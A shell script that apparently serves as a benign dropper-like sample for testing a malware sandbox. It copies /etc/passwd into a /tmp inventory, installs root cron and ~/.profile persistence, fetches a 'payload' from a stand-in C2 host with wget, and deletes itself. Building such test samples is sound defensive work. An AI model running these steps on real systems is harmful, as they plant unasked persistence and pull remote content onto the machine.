#!/bin/sh
# A harmless sample to try the sandbox with. It behaves as a dropper does and does no damage:
# it drops and deletes files, persists, resolves a name, fetches a page, and removes itself.
# Run it in a sandbox's guest only: it leaves a cron job and a line in ~/.profile behind.

C2=updates.demo.test
DROPPED=/usr/local/bin/demo-updater

echo "demo: started as $(id -un) on $(uname -n)"

# one instance is enough
echo $$ > /run/demo-updater.pid

# a child that works in the background
(
    sleep 0.2
    uname -a > /tmp/demo-inventory.txt
    cat /etc/passwd >> /tmp/demo-inventory.txt
    echo "demo: the child took the inventory"
) &
child=$!

# written, used and gone again
echo "temporary data" > /tmp/demo-temporary.dat
chmod 600 /tmp/demo-temporary.dat
rm -f /tmp/demo-temporary.dat

# persistence: a program, a cron job, a login
cat > "$DROPPED" <<'UPDATER'
#!/bin/sh
date >> /var/log/demo-updater.log
UPDATER
chmod 755 "$DROPPED"
echo "* * * * * root $DROPPED" > /etc/cron.d/demo-updater
echo "@reboot root $DROPPED" >> /etc/cron.d/demo-updater
echo "$DROPPED # demo" >> "$HOME/.profile"
echo "demo: persisted"

# command and control
ping -c 1 -W 1 "$C2" > /dev/null || echo "demo: $C2 does not answer a ping"
if wget -q -T 10 -t 1 -O /tmp/demo-payload "http://$C2/payload"; then
    echo "demo: fetched $(wc -c < /tmp/demo-payload) bytes from $C2"
else
    echo "demo: $C2 did not answer"
fi

wait "$child"
rm -f "$0"
echo "demo: done"
